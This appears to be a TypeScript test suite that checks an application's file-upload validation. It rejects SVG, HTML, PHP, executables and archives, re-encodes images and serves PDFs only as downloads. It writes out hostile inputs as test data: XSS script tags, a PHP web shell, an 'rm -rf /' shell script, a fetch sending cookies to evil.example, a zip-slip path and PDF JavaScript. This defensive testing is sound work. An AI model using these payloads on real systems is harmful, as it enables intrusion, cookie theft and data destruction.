import { gzipSync } from 'node:zlib';
import { expect } from 'vitest';
import type { Bytes } from '@/lib/crypto/bytes';
import { answered, type Case, type Category, refused } from '../case';
import type { Application } from '../world/application';
import { CANARY } from '../world/canary';
import {
  bytesOf,
  jpeg,
  type Part,
  pdf,
  photograph,
  png,
  toBytes,
  webp,
  withChunk,
  withSegment,
  zip,
} from '../world/files';
import { createUpload, fileOf, uploadFile } from '../world/upload';
import type { World } from '../world/world';

type Content = () => Bytes | Promise<Bytes>;

/** Never taken: the answer says so to the last piece, and again to whoever tries once more. */
const foreign = (name: string, content: Content): Case => ({
  name,
  send: async (world) => {
    const made = await world.file(world.centre, { file: await content() });
    refused('unsupported-media')(await uploadFile(world, made));
    return createUpload(world, world.centre, made);
  },
  expected: refused('unsupported-media'),
});

/** Taken; `look` sees what the officer downloads. */
export const taken = (name: string, content: Content, look: (kept: Buffer, sent: Bytes) => void): Case => ({
  name,
  send: async (world) => {
    const sent = await content();
    const made = await world.file(world.centre, { file: sent });
    const said = await uploadFile(world, made);
    if (said.status === 204) look(await download(world, made), sent);
    return said;
  },
  expected: answered(204),
});

async function download(world: World, made: Application): Promise<Buffer> {
  const path = `/api/v1/desk/attachments/${fileOf(made).id}`;
  const { status, headers, bytes } = await world.ask(
    world.officer,
    { method: 'GET', path },
    { mayRead: true },
  );
  expect({ status, ...headers }).toMatchObject({
    status: 200,
    'content-type': 'application/octet-stream',
    'content-disposition': expect.stringMatching(
      /^attachment; filename="[0-9a-f-]{36}\.(jpg|png|webp|pdf)"$/,
    ),
    'content-security-policy': expect.stringContaining("sandbox; default-src 'none'"),
    'x-content-type-options': 'nosniff',
    'cache-control': 'no-store',
  });
  return bytes;
}

const SCRIPT = `<script>alert("${CANARY.nameEn}")</script>`;
const begins = (kind: string) => (kept: Buffer) =>
  expect(kept.subarray(0, 16).toString('latin1')).toContain(kind);
const cleaned = (kind: string) => (kept: Buffer) => {
  begins(kind)(kept);
  expect(kept.toString('latin1')).not.toMatch(/script|CANARY|evil/);
};

const office = (part: string) => () =>
  zip({ '[Content_Types].xml': '<Types/>', '_rels/.rels': '<Relationships/>', [part]: SCRIPT });
const padded =
  (...parts: readonly Part[]) =>
  () =>
    bytesOf(...parts, Buffer.alloc(512));

/** Judged by content: pictures are drawn anew, a PDF is only ever downloaded, all else is not taken. */
export const uploadTypes: Category = {
  name: 'Uploads: type',
  least: 45,
  cases: [
    foreign('SVG', () => bytesOf(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`)),
    foreign('SVG behind an XML prolog', () =>
      bytesOf(`<?xml version="1.0"?><!DOCTYPE svg><svg>${SCRIPT}</svg>`),
    ),
    foreign('SVG in gzip', () => new Uint8Array(gzipSync(`<svg>${SCRIPT}</svg>`))),
    foreign('HTML', () => bytesOf(`<!doctype html><html>${SCRIPT}</html>`)),
    foreign('XHTML', () =>
      bytesOf(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`),
    ),
    foreign('PHP', () => bytesOf('<?php system($_GET["c"]); ?>')),
    foreign('PHP behind GIF89a', () => bytesOf('GIF89a;<?php system($_GET["c"]); ?>')),
    foreign('a script of the shell', () => bytesOf('#!/bin/sh\nrm -rf /\n')),
    foreign('JavaScript', () => bytesOf('fetch("https://evil.example/"+document.cookie)')),
    foreign('a program of Windows', padded('MZ', [0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff])),
    foreign('a program of Linux', padded([0x7f], 'ELF', [2, 1, 1, 0])),
    foreign('a program of macOS', padded([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1])),
    foreign('WebAssembly', padded([0], 'asm', [1, 0, 0, 0])),
    foreign('a class of Java', padded([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34])),
    foreign('docx', office('word/document.xml')),
    foreign('xlsx', office('xl/workbook.xml')),
    foreign('zip', () => zip({ 'a.txt': 'text' })),
    foreign('zip with a way out', () => zip({ '../../etc/cron.d/evil': 'x' })),
    foreign('a package of Android', () => zip({ 'AndroidManifest.xml': 'x', 'classes.dex': 'dex' })),
    foreign('gzip', () => new Uint8Array(gzipSync('text'))),
    foreign('7z', padded('7z', [0xbc, 0xaf, 0x27, 0x1c])),
    foreign('rar', padded('Rar!', [0x1a, 7, 1, 0])),
    foreign('HEIC', padded([0, 0, 0, 24], 'ftypheic', [0, 0, 0, 0], 'mif1heic')),
    foreign('AVIF', async () => toBytes(photograph().avif())),
    foreign('GIF', async () => toBytes(photograph().gif())),
    foreign('TIFF', async () => toBytes(photograph().tiff())),
    foreign('BMP', padded('BM', [70, 0, 0, 0, 0, 0, 0, 0, 54, 0, 0, 0, 40, 0, 0, 0])),
    foreign('an icon', padded([0, 0, 1, 0, 1, 0, 16, 16])),
    foreign('Photoshop', padded('8BPS', [0, 1])),
    foreign('MP4', padded([0, 0, 0, 24], 'ftypisom', [0, 0, 2, 0], 'isomiso2')),
    foreign('MP3', padded('ID3', [3, 0, 0, 0, 0, 0, 33])),
    foreign('a voice message', padded('OggS', [0, 2], [0, 0, 0, 0, 0, 0, 0, 0], 'OpusHead')),
    foreign('PostScript', () => bytesOf('%!PS-Adobe-3.0\n(x) run\n')),
    foreign('RTF', () => bytesOf('{\\rtf1\\ansi a}')),
    foreign('old Word', padded([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])),
    foreign('plain text', () => bytesOf(`${CANARY.nameEn} ${CANARY.nid}`)),
    foreign('one byte', () => bytesOf([0xff])),
    foreign('only zeros', () => new Uint8Array(4096)),
    foreign('a shortcut of Windows', padded([0x4c, 0, 0, 0, 1, 0x14, 2, 0])),
    foreign('an SQLite database', padded('SQLite format 3\0')),
    taken('a JPEG said to be one', jpeg, begins('\xff\xd8\xff')),
    taken('a PNG said to be a JPEG', png, begins('PNG')),
    taken('a WebP said to be a JPEG', webp, begins('WEBP')),
    taken('a PDF said to be a JPEG', pdf, (kept, sent) => expect(kept.equals(sent)).toBe(true)),
    taken(
      'a PDF with a script: kept as it is, and only downloaded',
      () => pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'),
      (kept, sent) => expect(kept.equals(sent)).toBe(true),
    ),
    taken(
      'a JPEG with HTML behind it',
      async () => bytesOf(await jpeg(), `<html>${SCRIPT}</html>`),
      cleaned('\xff\xd8\xff'),
    ),
    taken(
      'a JPEG with a zip behind it',
      async () => bytesOf(await jpeg(), zip({ 'evil.js': 'evil' })),
      cleaned('\xff\xd8\xff'),
    ),
    taken(
      'a JPEG with HTML in a comment',
      async () => withSegment(await jpeg(), 0xfe, bytesOf(SCRIPT)),
      cleaned('\xff\xd8\xff'),
    ),
    taken(
      'a PNG with a script in a text',
      async () => withChunk(await png(), 'tEXt', bytesOf(`Comment\0${SCRIPT}`)),
      cleaned('PNG'),
    ),
    taken(
      'a PNG with a zip behind it',
      async () => bytesOf(await png(), zip({ 'evil.js': 'evil' })),
      cleaned('PNG'),
    ),
  ],
};
